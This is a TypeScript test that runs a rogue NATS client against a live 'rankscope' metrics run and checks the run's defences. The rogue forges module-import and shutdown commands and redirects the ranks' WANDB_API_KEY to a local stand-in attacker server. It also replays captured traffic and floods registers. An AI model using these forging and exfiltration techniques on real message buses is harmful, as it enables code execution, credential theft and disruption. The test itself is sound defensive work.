/**
 * A rogue client on the run's NATS server (issue 21, attacks 2–7): a plain NATS client — no run
 * secret — that reads everything on `rankscope.>` and then forges, replays and floods, against a
 * live run of a controller, two ranks joined directly (processes started by `spawnRanks`) and a
 * host agent with one rank (processes of their own). Afterwards: no code ran, no secret left, no
 * rank or agent exited, the logged numbers equal what the ranks recorded, and each attack was
 * counted by kind — in this process and, through `rankscope/rejected/{kind}`, in every other.
 *
 * The server is a parameter (`SERVERS`): an open nats-server here; an authenticated one (users
 * and permissions per role, the rogue with another user's credentials) is the same test with
 * another entry.
 */
import assert from "node:assert/strict";
import { mkdirSync, readdirSync, readFileSync, existsSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { connect, createInbox, type NatsConnection } from "@nats-io/transport-node";
import { MetricLogger } from "../../src/controller/metric-logger.js";
import { spawnRanks } from "../../src/transport/controller/launcher.js";
import { serveRanksOverNats } from "../../src/transport/controller/nats.js";
import { serveHostsOverNats } from "../../src/transport/host/server.js";
import { ignoredMessageCounts, type IgnoredKind } from "../../src/transport/protocol/messages.js";
import { isSealed } from "../../src/transport/protocol/seal.js";
import { collectDiagnostics, tempDir, waitFor } from "../helpers.js";
import {
  AGENT_MAIN,
  HOST_RANK,
  isAlive,
  killChildren,
  NatsServer,
  startChild,
  SUM_RANK,
  type TestChild,
} from "./support.js";

const EVIL = new URL("../fixtures/evil-module.mjs", import.meta.url);
/** What the ranks hold in their environment and must never send anywhere. */
const API_KEY = "local-wandb-api-key-0123456789abcdef0123456789abcdef";

/** A NATS server for the run: where the run's processes connect, and where the rogue does. */
interface ServerSetup {
  readonly name: string;
  start(): Promise<{ readonly url: string; readonly rogueUrl: string; stop(): Promise<void> }>;
}

const SERVERS: readonly ServerSetup[] = [
  {
    name: "an open nats-server",
    async start() {
      const server = await NatsServer.start();
      return { url: server.url, rogueUrl: server.url, stop: () => server.stop() };
    },
  },
];

/** An HTTP server that records every request: where a forged config would send the ranks' secrets. */
async function attackerServer(): Promise<{ server: Server; url: string; requests: string[] }> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (d: Buffer) => (body += d.toString()));
    req.on("end", () => {
      requests.push(`${req.method ?? ""} ${req.url ?? ""} ${JSON.stringify(req.headers)} ${body}`);
      res.end("{}");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  return { server, url: `http://127.0.0.1:${port}`, requests };
}

/** Sums per key over every line of a jsonl backend's file. */
function jsonlSums(runDir: string): Map<string, number> {
  const sums = new Map<string, number>();
  const file = join(runDir, "metrics.jsonl");
  if (!existsSync(file)) return sums;
  for (const line of readFileSync(file, "utf8").split("\n")) {
    if (line.trim() === "") continue;
    const { key, value } = JSON.parse(line) as { key: string; value: number };
    sums.set(key, (sums.get(key) ?? 0) + value);
  }
  return sums;
}

for (const setup of SERVERS) {
  describe(`a rogue client on ${setup.name}`, () => {
    const children: TestChild[] = [];
    after(() => killChildren(children));

    test("replays attacks 2–7 of issue 21: nothing runs, no secret leaves, nobody exits, the numbers are what the ranks recorded, every attack is counted", async () => {
      const server = await setup.start();
      const attacker = await attackerServer();
      const runDir = tempDir();
      const markers = join(tempDir(), "markers");
      mkdirSync(markers);
      const logger = new MetricLogger({ processName: "Controller", runDir, flushDeadlineMs: 3000 });
      let rogue: NatsConnection | undefined;
      try {
        const seen = await collectDiagnostics(async () => {
          await logger.initBackends({ jsonl: { loggingMode: "global_reduce" } });
          const nats = await serveRanksOverNats({ url: server.url, logger });
          const hosts = await serveHostsOverNats({ url: server.url, logger });
          const RUN = logger.runId;
          const childEnv = {
            RANKSCOPE_NATS_URL: server.url,
            RANKSCOPE_RUN_ID: RUN,
            RANKSCOPE_RUN_SECRET: logger.runSecret,
            WANDB_API_KEY: API_KEY,
            EVIL_MARKER_DIR: markers,
          };
          const group = await spawnRanks({
            module: SUM_RANK,
            ranksPerReplica: 2,
            processName: "Victim",
            logger,
            nats,
            env: { WANDB_API_KEY: API_KEY, EVIL_MARKER_DIR: markers },
          });
          const agent = startChild(AGENT_MAIN, { ...childEnv, RANKSCOPE_HOST_ID: "hv" }, children);
          await waitFor(() => hosts.hostIds.includes("hv"), {
            timeoutMs: 30_000,
            what: `the host agent to register (it printed: ${agent.stderr})`,
          });
          const hostRank = startChild(
            HOST_RANK,
            { ...childEnv, RANKSCOPE_HOST_ID: "hv", RANK: "2", TICK_MS: "5", RANK_PROCESS_NAME: "HostVictim" },
            children,
          );
          await waitFor(() => /joined as (\w+)/.exec(hostRank.stdout)?.[1], {
            timeoutMs: 30_000,
            what: `the host rank to join its agent (it printed: ${hostRank.stderr})`,
          });
          const hostRankName = /joined as (\w+)/.exec(hostRank.stdout)?.[1] ?? "";

          // The rogue listens to everything of the run while the run works normally.
          rogue = await connect({ servers: server.rogueUrl, name: "rogue" });
          const captured: Array<{ subject: string; reply: string | undefined; data: Uint8Array }> = [];
          const listening = rogue.subscribe(`rankscope.${RUN}.>`, {
            callback: (_err, msg) =>
              void captured.push({
                subject: msg.subject,
                reply: msg.reply === "" ? undefined : msg.reply,
                data: msg.data,
              }),
          });
          await rogue.flush();
          let step = 0;
          let ones = 0;
          const record = async (n: number): Promise<void> => {
            for (let i = 0; i < n; i++) await group.fanout("record", "ones", 1, "sum");
            ones += n * 2;
          };
          await record(5);
          await waitFor(async () => (await logger.flush(step++)).ranksReporting === 3, {
            timeoutMs: 20_000,
            what: "a flush with the two ranks and the host's rank",
          });
          await record(5);
          await logger.flush(step++);
          listening.unsubscribe();
          assert.ok(captured.length > 10, `the rogue saw the run's traffic (${captured.length} messages)`);

          // Attack 7: what the rogue read is sealed — no key, no value, no secret in the clear.
          for (const m of captured) {
            const text = Buffer.from(m.data).toString("latin1");
            assert.ok(isSealed(m.data), `a message on ${m.subject} is sealed`);
            assert.ok(
              !text.includes("ones") &&
                !text.includes("scale/values") &&
                !text.includes(API_KEY) &&
                !text.startsWith("RSWF") &&
                !text.includes('"proto"'),
              `nothing readable on ${m.subject}`,
            );
          }
          const controllerInbox = captured.find((m) => m.subject === `rankscope.${RUN}.flush`)?.reply ?? "";
          assert.match(
            controllerInbox,
            new RegExp(`^rankscope\\.${RUN}\\.ctl\\.`),
            "the controller's inbox is visible as the reply-to of flush (which is why replies must prove themselves)",
          );

          const before = { ...ignoredMessageCounts() };
          const forged = (t: string, fields: Record<string, unknown>): string =>
            JSON.stringify({ proto: "rankscope", v: 1, run: RUN, t, ...fields });
          const rankSubjects = [
            ...group.rankNames.map((n) => `rankscope.${RUN}.rank.${n}`),
            `rankscope.${RUN}.host.hv.rank.${hostRankName}`,
          ];
          const stealInbox = createInbox();
          const stolen: Uint8Array[] = [];
          rogue.subscribe(stealInbox, { callback: (_err, msg) => void stolen.push(msg.data) });
          let atControllers = 0;
          const publish = (subject: string, data: string | Uint8Array, reply?: string): void =>
            rogue?.publish(subject, data, reply === undefined ? undefined : { reply });

          // Attack 2: make the ranks import a module, then call it.
          for (const subject of rankSubjects) {
            publish(subject, forged("start", { id: 1, module: EVIL.pathname }), stealInbox);
            publish(subject, forged("call", { id: 2, fn: "run", args: [] }), stealInbox);
          }
          // Attack 3: a per-rank backend sending the ranks' WANDB_API_KEY to the attacker, a file where the attacker wants it.
          const pwned = join(markers, "pwned.jsonl");
          for (const subject of rankSubjects) {
            publish(
              subject,
              forged("init", {
                id: 3,
                init: {
                  backends: {
                    wandb: { loggingMode: "per_rank_reduce", baseUrl: attacker.url },
                    jsonl: { loggingMode: "per_rank_reduce", file: pwned },
                  },
                  primaryMetadata: {},
                  run: { runDir: markers, experiment: "x", trial: "y", resumeStep: 0 },
                },
              }),
              stealInbox,
            );
          }
          // Attack 4: forged deregister, shutdown, hostShutdown; a flood of registers.
          for (const name of [...group.rankNames, hostRankName])
            publish(`rankscope.${RUN}.deregister`, forged("deregister", { rankName: name, reason: "forged" }));
          atControllers += 3;
          for (const subject of rankSubjects) publish(subject, forged("shutdown", { id: 4 }), stealInbox);
          publish(`rankscope.${RUN}.hostctl.hv`, forged("hostShutdown", { id: 5, deadlineMs: 1000 }), stealInbox);
          publish(`rankscope.${RUN}.hosts.deregister`, forged("hostDeregister", { host: "hv", reason: "forged" }));
          atControllers += 1;
          for (let i = 0; i < 300; i++) {
            publish(
              `rankscope.${RUN}.register`,
              forged("register", {
                identity: {
                  rank: 100 + i,
                  rankName: `Fake_r${i}`,
                  processName: "Fake",
                  localRank: 0,
                  localWorldSize: 1,
                },
                pid: 1,
                host: "rogue",
              }),
              createInbox(),
            );
          }
          atControllers += 300;
          // Attack 5: replies corrupting and diverting numbers, on the controller's inbox.
          const [victim] = group.rankNames;
          const reply = (states: unknown[], seq: number): string =>
            forged("reply", {
              id: 1,
              rankName: victim,
              ok: true,
              snapshot: { rankName: victim, step, seq, droppedKeyRecords: 0, states },
            });
          publish(controllerInbox, reply([{ key: "ones", reduce: "sum", state: { v: 1, count: 1 } }], 100));
          publish(controllerInbox, reply([{ key: "ones", reduce: "sum", state: { v: 1, count: 1, sum: "5" } }], 101));
          publish(controllerInbox, reply([{ key: "ones", reduce: "mean", state: { v: 1, count: 1, sum: 5 } }], 102));
          atControllers += 3;
          // …flush requests with the rogue's own inbox, to take the ranks' values.
          for (let i = 0; i < 20; i++)
            publish(`rankscope.${RUN}.flush`, forged("flush", { id: 10_000 + i, step }), stealInbox);
          for (let i = 0; i < 5; i++)
            publish(`rankscope.${RUN}.host.hv.flush`, forged("flush", { id: 20_000 + i, step, wire: 1 }), stealInbox);
          publish(
            `rankscope.${RUN}.hosts.flush`,
            forged("hostFlush", { id: 30_000, step, deadlineMs: 1000, resync: [] }),
            stealInbox,
          );
          // …and every genuine message replayed: as it was, and with the rogue's inbox as its reply subject.
          for (const m of captured) {
            publish(m.subject, m.data, m.reply);
            if (m.reply !== undefined) publish(m.subject, m.data, stealInbox);
          }
          // Attack 6: a reply 100,000 answers ahead; a 200 KB rank name; host ids that are subject wildcards.
          publish(controllerInbox, reply([], 100_000));
          publish(
            `rankscope.${RUN}.register`,
            forged("register", {
              identity: {
                rank: 9,
                rankName: "x".repeat(200_000),
                processName: "Fake",
                localRank: 0,
                localWorldSize: 1,
              },
              pid: 1,
              host: "rogue",
            }),
            createInbox(),
          );
          publish(`rankscope.${RUN}.hosts.register`, forged("hostRegister", { host: "h1.*", pid: 1 }), createInbox());
          publish(
            `rankscope.${RUN}.hosts.register`,
            forged("hostRegister", { host: "h".repeat(100_000), pid: 1 }),
            createInbox(),
          );
          atControllers += 4;
          await rogue.flush();
          await waitFor(() => ignoredMessageCounts().unauthenticated - before.unauthenticated >= atControllers, {
            timeoutMs: 20_000,
            what: "the controller to drop every forged message sent to it",
          });

          // The run goes on: nobody exited, nothing was registered, nothing ran, nothing was sent.
          await record(5);
          hostRank.process.kill("SIGUSR2");
          await waitFor(() => /stopped (\d+)/.exec(hostRank.stdout)?.[1], {
            timeoutMs: 10_000,
            what: "the host rank to stop recording",
          });
          const hostRecorded = Number(/stopped (\d+)/.exec(hostRank.stdout)?.[1]);
          const last = await logger.flush(step++);
          await logger.flush(step++);
          assert.deepEqual(last.missingRanks, []);
          assert.equal(last.ranksExpected, 3, "no forged register was admitted and no forged deregister taken");
          assert.equal(last.ranksReporting, 3);
          assert.deepEqual(nats.rankNames.sort(), [...group.rankNames].sort());
          assert.deepEqual(hosts.hostIds, ["hv"]);
          assert.deepEqual(group.liveRankNames.sort(), [...group.rankNames].sort());
          for (const name of group.rankNames) assert.ok(isAlive(group.pid(name) ?? -1), `rank ${name} is alive`);
          assert.equal(agent.process.exitCode, null, "the host agent is alive");
          assert.equal(hostRank.process.exitCode, null, "the host rank is alive");
          assert.deepEqual(
            readdirSync(markers),
            [],
            "the evil module never ran, and no file was written where the attacker chose",
          );
          assert.deepEqual(attacker.requests, [], "nothing (and no API key) was sent to the attacker");
          assert.deepEqual(
            stolen.filter((d) => !isSealed(d)),
            [],
            "no rank answered the rogue in the clear",
          );
          assert.equal(stolen.length, 0, "no rank answered the rogue's flushes and requests at all");

          // The numbers are what the ranks recorded, each once.
          await logger.shutdown();
          const sums = jsonlSums(runDir);
          assert.equal(sums.get("ones"), ones, "every value the two ranks recorded, each once");
          assert.equal(sums.get("scale/values"), hostRecorded, "every value the host's rank recorded, each once");

          // Every attack was counted, by kind: here, and in every process through the logged rejections.
          const after = ignoredMessageCounts();
          const here = (kind: IgnoredKind): number => after[kind] - before[kind];
          assert.ok(
            here("unauthenticated") >= atControllers,
            `forged messages to the controller dropped here: ${here("unauthenticated")}`,
          );
          assert.ok(here("replayed") > 0, "genuine answers replayed to the controller were dropped as replays");
          const logged = (kind: IgnoredKind): number => sums.get(`rankscope/rejected/${kind}`) ?? 0;
          // Each rank got start, call, init and shutdown (4), the two joined directly 20 flushes more, the host's 5; the agent 2.
          const elsewhere = 3 * 4 + 2 * 20 + 5 + 2;
          assert.ok(
            logged("unauthenticated") >= atControllers + elsewhere,
            `unauthenticated, logged by every process: ${logged("unauthenticated")}`,
          );
          assert.ok(logged("replayed") > 0, `replayed, logged: ${logged("replayed")}`);
        });
        assert.ok(
          !seen.some((d) => d.code === "transport.nats.disconnect"),
          "the controller never lost its NATS connection (a 200 KB name never became a subject)",
        );
        assert.ok(
          seen.some((d) => d.code === "transport.unauthenticated"),
          "the rejections were reported",
        );
      } finally {
        await rogue?.close();
        killChildren(children);
        attacker.server.close();
        await server.stop();
      }
    });
  });
}
